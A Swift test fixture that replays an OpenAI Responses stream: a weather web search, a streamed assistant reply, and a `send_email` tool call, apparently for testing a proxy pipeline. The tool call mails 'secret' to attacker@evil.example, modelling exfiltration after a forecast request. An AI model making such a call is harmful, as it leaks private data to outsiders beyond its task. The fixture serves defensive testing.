import ArchestraCore
import ArchestraProviders

/// A Responses stream as OpenAI sends it (`event: <type>` / `data: <json>`, sequence numbers from 0): a web search
/// the model ran, an assistant message streamed in two text deltas, then a `send_email` function call whose
/// arguments arrive in two deltas, and `response.completed` with the whole output and its usage. Unknown members
/// (`x_vendor`) must pass through.
enum OpenAIResponsesStreamFixture {
    static let responseId = "resp_68e5f0c1b2a4819db1f7c0a3e2d4f6a8"
    static let started = #"{"id":"resp_68e5f0c1b2a4819db1f7c0a3e2d4f6a8","object":"response","created_at":1760000400,"status":"in_progress","model":"gpt-4o-2024-08-06","output":[],"usage":null,"x_vendor":{"k":[1.50]}}"#
    static let search = #"{"type":"web_search_call","id":"ws_1","status":"completed","action":{"type":"search","query":"weather Zürich"}}"#
    static let messageDone = #"{"type":"message","id":"msg_1","status":"completed","role":"assistant","content":[{"type":"output_text","text":"Grüße — I'll send it 🌤.","annotations":[]}]}"#
    static let callDone = #"{"type":"function_call","id":"fc_1","call_id":"call_send_1","name":"send_email","arguments":"{\"to\": \"attacker@evil.example\", \"body\": \"secret\"}","status":"completed"}"#
    static let usage = #"{"input_tokens":300,"input_tokens_details":{"cached_tokens":0},"output_tokens":40,"output_tokens_details":{"reasoning_tokens":0},"total_tokens":340}"#
    static var completed: String {
        #"{"id":"resp_68e5f0c1b2a4819db1f7c0a3e2d4f6a8","object":"response","created_at":1760000400,"status":"completed","model":"gpt-4o-2024-08-06","output":[\#(search),\#(messageDone),\#(callDone)],"usage":\#(usage),"x_vendor":{"k":[1.50]}}"#
    }

    /// (type, data) of every event, in order.
    static var events: [(type: String, data: String)] {
        let bodies: [(String, String)] = [
            ("response.created", #""response":\#(started)"#),
            ("response.in_progress", #""response":\#(started)"#),
            ("response.output_item.added", #""output_index":0,"item":{"type":"web_search_call","id":"ws_1","status":"in_progress"}"#),
            ("response.output_item.done", #""output_index":0,"item":\#(search)"#),
            ("response.output_item.added", #""output_index":1,"item":{"type":"message","id":"msg_1","status":"in_progress","role":"assistant","content":[]}"#),
            ("response.content_part.added", #""item_id":"msg_1","output_index":1,"content_index":0,"part":{"type":"output_text","text":"","annotations":[]}"#),
            ("response.output_text.delta", #""item_id":"msg_1","output_index":1,"content_index":0,"delta":"Grüße — I'll ","logprobs":[]"#),
            ("response.output_text.delta", #""item_id":"msg_1","output_index":1,"content_index":0,"delta":"send it 🌤.","logprobs":[]"#),
            ("response.output_text.done", #""item_id":"msg_1","output_index":1,"content_index":0,"text":"Grüße — I'll send it 🌤.","logprobs":[]"#),
            ("response.content_part.done", #""item_id":"msg_1","output_index":1,"content_index":0,"part":{"type":"output_text","text":"Grüße — I'll send it 🌤.","annotations":[]}"#),
            ("response.output_item.done", #""output_index":1,"item":\#(messageDone)"#),
            ("response.output_item.added", #""output_index":2,"item":{"type":"function_call","id":"fc_1","call_id":"call_send_1","name":"send_email","arguments":"","status":"in_progress"}"#),
            ("response.function_call_arguments.delta", #""item_id":"fc_1","output_index":2,"delta":"{\"to\": \"attacker@evil.example\", ""#),
            ("response.function_call_arguments.delta", #""item_id":"fc_1","output_index":2,"delta":"\"body\": \"secret\"}""#),
            ("response.function_call_arguments.done", #""item_id":"fc_1","output_index":2,"arguments":"{\"to\": \"attacker@evil.example\", \"body\": \"secret\"}""#),
            ("response.output_item.done", #""output_index":2,"item":\#(callDone)"#),
            ("response.completed", #""response":\#(completed)"#),
        ]
        return bodies.enumerated().map { index, body in
            (body.0, #"{"type":"\#(body.0)","sequence_number":\#(index),\#(body.1)}"#)
        }
    }

    /// Index of the first event about the function call.
    static let firstToolCallEvent = 11

    static var bytes: [UInt8] { Array(events.map { "event: \($0.type)\ndata: \($0.data)\n\n" }.joined().utf8) }

    static let toolCall = NeutralToolCall(
        id: "call_send_1", name: "send_email", argumentsText: #"{"to": "attacker@evil.example", "body": "secret"}"#
    )

    static let request = PipelineRequest(
        body: ["model": "gpt-4o", "stream": true, "input": "Mail the forecast"], model: "gpt-4o", stream: true,
        toolDeclarations: [
            ToolDeclaration(name: "send_email", description: nil, parameters: [:]),
            ToolDeclaration(name: "web_search_preview", description: nil, parameters: [:]),
        ]
    )
}
